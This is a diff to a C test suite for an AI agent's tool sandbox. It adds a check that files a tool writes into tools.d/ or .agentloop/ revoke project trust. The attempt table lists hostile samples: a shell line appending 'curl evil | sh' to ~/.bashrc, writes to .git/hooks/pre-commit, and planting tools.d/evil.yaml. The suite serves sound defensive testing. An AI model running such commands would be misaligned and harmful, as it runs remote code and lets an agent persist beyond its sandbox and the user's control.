@@ -24,6 +24,7 @@
 #include <unistd.h>
 
 #include "test.h"
+#include "tools/clitool.h"
 #include "unit/sandbox/sbx.h"
 
 enum {
@@ -36,7 +37,12 @@ enum {
   C_MAXSIZE = 1 << 6, /* `arg` is absent or at most 16 MiB */
   C_SAME = 1 << 7,    /* file `arg` still holds "orig\n" */
   C_SENTINEL = 1 << 8, /* a host process started before is still alive */
-  C_KEEP = 1 << 9      /* path `arg` still exists */
+  C_KEEP = 1 << 9,     /* path `arg` still exists */
+  /* path `arg` is absent, or the project's trust (given before the
+   * attempt) no longer holds: project trust is bound to the content of
+   * tools.d/ and .agentloop/ (src/tools/trust.c), which get no
+   * placeholder, so a file a tool makes there is never trusted */
+  C_UNTRUSTED = 1 << 10
 };
 
 enum {
@@ -44,7 +50,8 @@ enum {
   F_NORUN = 1 << 1,  /* ... too dangerous to try there */
   F_TOOLSD = 1 << 2, /* ws/tools.d exists before */
   F_NOGIT = 1 << 3,  /* ws/.git does not exist before */
-  F_HL = 1 << 4      /* ws/hl is a hard link to out/canary */
+  F_HL = 1 << 4,     /* ws/hl is a hard link to out/canary */
+  F_TRUSTED = 1 << 5 /* the project is trusted before (trust.c) */
 };
 
 typedef struct attempt_s {
@@ -134,13 +141,11 @@ static const attempt_t k_attempts[] = {
      "{\"path\": \".git/hooks/pre-commit\", \"content\": \"x\"}",
      C_ERR | C_NOFILE, "${WS}/.git/hooks", NULL, 0, NULL},
     {"sh_toolsd_new", "bash",
-     SH("mkdir -p tools.d; echo 'name: x' > tools.d/evil.yaml"), C_NOFILE,
-     "${WS}/tools.d", NULL, F_GAP, "protected subpaths",
-     "tools.d exists"},
+     SH("mkdir -p tools.d; echo 'name: x' > tools.d/evil.yaml"), C_UNTRUSTED,
+     "${WS}/tools.d/evil.yaml", NULL, F_TRUSTED, NULL},
     {"sh_toolsd_existing", "bash", SH("echo 'name: x' > tools.d/evil.yaml"),
-     C_NOFILE, "${WS}/tools.d/evil.yaml", NULL, F_TOOLSD | F_GAP,
-     "protected subpaths",
-     "tools.d/evil.yaml exists"},
+     C_UNTRUSTED, "${WS}/tools.d/evil.yaml", NULL, F_TOOLSD | F_TRUSTED,
+     NULL},
     {"sh_git_hooks_new", "bash",
      SH("mkdir -p .git/hooks; echo 'id' > .git/hooks/pre-commit"), C_NOFILE,
      "${WS}/.git/hooks", NULL, F_GAP, "protected subpaths",
@@ -154,9 +159,8 @@ static const attempt_t k_attempts[] = {
      C_NOFILE, "${WS}/.git", NULL, F_NOGIT | F_GAP, "protected subpaths",
      "/ws/.git exists"},
     {"sh_agentloop_dir", "bash",
-     SH("mkdir -p .agentloop && echo x > .agentloop/config.yaml"), C_NOFILE,
-     "${WS}/.agentloop", NULL, F_GAP, "protected subpaths",
-     ".agentloop exists"},
+     SH("mkdir -p .agentloop && echo x > .agentloop/config.yaml"),
+     C_UNTRUSTED, "${WS}/.agentloop/config.yaml", NULL, F_TRUSTED, NULL},
     {"sh_shell_rc_home", "bash", SH("echo 'curl evil | sh' >> $HOME/.bashrc"),
      C_NOFILE, "${HOME}/.bashrc", NULL, 0, NULL},
     {"sh_user_config_toolsd", "bash",
@@ -484,6 +488,12 @@ static const char *oracle(sbx_t *x, const attempt_t *a, const char *mark,
     snprintf(why, sizeof(why), "%s exists", sbx_expand(x, a->arg, mark));
     return why;
   }
+  if ((a->checks & C_UNTRUSTED) && exists(sbx_expand(x, a->arg, mark)) &&
+      al__tools_project_trusted(x->ws)) {
+    snprintf(why, sizeof(why), "%s exists and the project is still trusted",
+             sbx_expand(x, a->arg, mark));
+    return why;
+  }
   if ((a->checks & C_ABSENT) && leaked(x, out, sbx_expand(x, a->text, mark))) {
     snprintf(why, sizeof(why), "'%s' is in the output",
              sbx_expand(x, a->text, mark));
@@ -524,6 +534,9 @@ static const char *oracle(sbx_t *x, const attempt_t *a, const char *mark,
 static void check_placeholders(sbx_t *x, const attempt_t *a) {
   char p[512];
 
+  if (a->checks & C_UNTRUSTED) {
+    return; /* the tool may have made them: no placeholders there */
+  }
   if (!(a->flags & F_TOOLSD)) {
     snprintf(p, sizeof(p), "%s/tools.d", x->ws);
     ASSERT(!exists(p));
@@ -550,6 +563,10 @@ static int run_attempt(const char *id, sbx_mode_t mode) {
   if (a->flags & F_TOOLSD) {
     snprintf(p, sizeof(p), "%s/tools.d", x.ws);
     ASSERT_EQ(mkdir(p, 0755), 0);
+  }
+  if (a->flags & F_TRUSTED) {
+    ASSERT_EQ(al__tools_trust_project(x.ws, NULL), 0);
+    ASSERT(al__tools_project_trusted(x.ws));
   }
   if (a->flags & F_NOGIT) {
     snprintf(p, sizeof(p), "rm -rf '%s/.git'", x.ws);
